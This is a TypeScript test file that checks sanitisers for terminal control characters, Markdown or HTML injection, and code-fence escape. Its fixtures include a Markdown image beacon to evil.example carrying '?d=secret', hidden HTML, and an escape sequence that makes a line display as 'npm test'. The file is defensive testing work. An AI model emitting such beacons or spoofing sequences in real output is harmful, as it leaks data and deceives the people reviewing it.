import {Marked, type Token} from 'marked'
import {describe, expect, it} from 'vitest'

import {fencedBlock, inertMarkdown, visible} from '../../../src/base/text.js'

/** Every token of a Markdown text, nested ones included, as GitHub-flavoured marked reads it. */
function tokensOf(markdown: string): Token[] {
  const all: Token[] = []
  const walk = (tokens: Token[] | undefined) => {
    for (const token of tokens ?? []) {
      all.push(token)
      walk((token as {tokens?: Token[]}).tokens)
      for (const item of (token as {items?: Array<{tokens?: Token[]}>}).items ?? []) walk(item.tokens)
    }
  }

  walk(new Marked({gfm: true}).lexer(markdown))
  return all
}

describe('visible', () => {
  it('shows control characters instead of obeying them: ESC, CR, backspace, DEL, C1 and bidi overrides', () => {
    // A check that would display as `npm test` at a terminal.
    expect(visible('exit 0\u001B[2K\rnpm test')).toBe('exit 0^[[2K^Mnpm test')
    expect(visible('a\bb\u007Fc\u009B31md\u202Ee')).toBe('a^Hb^?c\\x9b31md<U+202E>e')
  })

  it('leaves ordinary text alone (control): newlines, tabs, Unicode', () => {
    const text = 'npm test\n\tgrüße → ✓ 日本'
    expect(visible(text)).toBe(text)
  })
})

describe('inertMarkdown', () => {
  const hostile = [
    '![x](https://evil.example/pixel.png?d=secret)',
    '# A heading of my own',
    '<img src="https://evil.example/a.png"> <!-- hide',
    '[click](https://evil.example) and https://evil.example and www.evil.example',
    '<https://evil.example> a@b.example',
    '- a nested list',
    '1. an ordered one',
    '`code` **bold** $x^2$',
  ]

  it('leaves no image, link, heading, list or HTML of the writer in a list item', () => {
    for (const text of hostile) {
      const tokens = tokensOf(`- [ ] ${inertMarkdown(text)}`)
      const kinds = tokens.map((token) => token.type)
      expect(kinds, text).not.toContain('image')
      expect(kinds, text).not.toContain('link')
      expect(kinds, text).not.toContain('heading')
      expect(kinds, text).not.toContain('html')
      expect(kinds, text).not.toContain('codespan')
      expect(
        kinds.filter((kind) => kind === 'list'),
        text,
      ).toHaveLength(1)
    }
  })

  it('keeps plain words readable and cuts long text (control)', () => {
    expect(inertMarkdown('Read the greeting')).toBe('Read the greeting')
    expect(inertMarkdown('x'.repeat(500), 100)).toHaveLength(100)
    // An image not made inert is one (the lexer would fetch it): the test above can fail.
    expect(tokensOf(`- [ ] ${hostile[0]}`).map((token) => token.type)).toContain('image')
  })
})

describe('fencedBlock', () => {
  it('is closed by nothing inside: a line of tildes, an indented fence, a run of backticks', () => {
    const text = '~~~~\n ```\n````` x\n<!-- hidden -->'
    const tokens = new Marked({gfm: true}).lexer(fencedBlock(text, 'diff'))
    expect(tokens.filter((token) => token.type !== 'space')).toMatchObject([{text, type: 'code'}])
  })
})
